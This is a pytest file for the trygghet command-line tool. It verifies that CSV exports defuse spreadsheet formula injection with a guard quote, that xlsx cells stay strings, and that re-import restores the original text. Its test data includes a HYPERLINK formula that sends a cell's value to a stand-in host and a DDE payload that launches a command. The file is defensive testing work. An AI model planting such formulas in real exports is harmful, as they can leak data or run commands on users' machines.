"""Issue 19, item 5: no CSV trygghet writes carries a live formula (OWASP's CSV injection
advice): a cell starting with =, +, -, @, a tab or a carriage return gets a leading ',
in `status --format csv` and `export activities --format csv`; xlsx cells stay strings;
`import` takes its own export back unchanged."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from tests.reliability import hostile
from tests.reliability.conftest import assert_clean
from trygghet_cli.output.csv_cells import inert

FORMULAS = ['=HYPERLINK("http://x.example/?x="&A1,"Klicka")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "\uff1d1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_cell_gets_a_guard_quote_and_plain_numbers_do_not(text) -> None:
    assert inert(text) == "'" + text
    assert inert("-3") == "-3" and inert("+4,5") == "+4,5" and inert("Text =x") == "Text =x"


def _cells(text: str, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter)
            for cell in row]


@pytest.mark.parametrize("formula", [f for f in FORMULAS if "\r" not in f])  # data holds no CR
def test_no_csv_the_tool_writes_starts_a_cell_with_a_formula(run, tmp_path, formula) -> None:
    root = hostile.write_root(tmp_path / "root", lambda s: "internt" if hostile.is_internal(s) else formula)
    # Swedish (';' by default), English (','), and each with the other separator chosen
    ways = [(command, args, lang, chosen, chosen or default)
            for command, args in (("status", ["--as-of", "2025-01-15"]), ("export", ["activities"]))
            for lang, default in (("sv", ";"), ("en", ","))
            for chosen in ("", "," if default == ";" else ";")]
    for command, args, lang, chosen, delimiter in ways:
        result = run("--data", str(root), "--lang", lang, command, *args, "--format", "csv",
                     *(["--delimiter", chosen] if chosen else []))
        assert_clean(result, exits=(0,))
        cells = _cells(result.stdout, delimiter)
        assert "'" + formula in cells, cells
        assert not any(c and c[0] in "=+@\t\r\uff1d" for c in cells), cells


def test_xlsx_cells_with_formulas_stay_strings(run, tmp_path) -> None:
    root = hostile.write_root(tmp_path / "root",
                              lambda s: "internt" if hostile.is_internal(s) else FORMULAS[0])
    out = tmp_path / "a.xlsx"
    assert_clean(run("--data", str(root), "export", "activities", "--format", "xlsx", "-o", str(out)),
                 exits=(0,))
    with zipfile.ZipFile(out) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet


def test_import_of_its_own_csv_export_takes_the_guard_quote_away(run, tmp_path) -> None:
    root = hostile.write_root(tmp_path / "root",
                              lambda s: "internt" if hostile.is_internal(s) else f"Text {s}")
    listing = root / "activities" / "2024-2025.yaml"
    listing.write_text(listing.read_text(encoding="utf-8").replace(
        '"Text activity_title"', '"=1+1 är en formel"'), encoding="utf-8")
    out = tmp_path / "a.csv"
    assert_clean(run("--data", str(root), "export", "activities", "--format", "csv", "-o", str(out)),
                 exits=(0,))
    assert "'=1+1 är en formel" in out.read_text(encoding="utf-8-sig")
    before = listing.read_bytes()
    result = run("--data", str(root), "import", "activities", str(out), "--period", "2024-2025")
    assert_clean(result, exits=(0,))
    assert b"'=1+1" not in listing.read_bytes()
    assert listing.read_bytes() == before
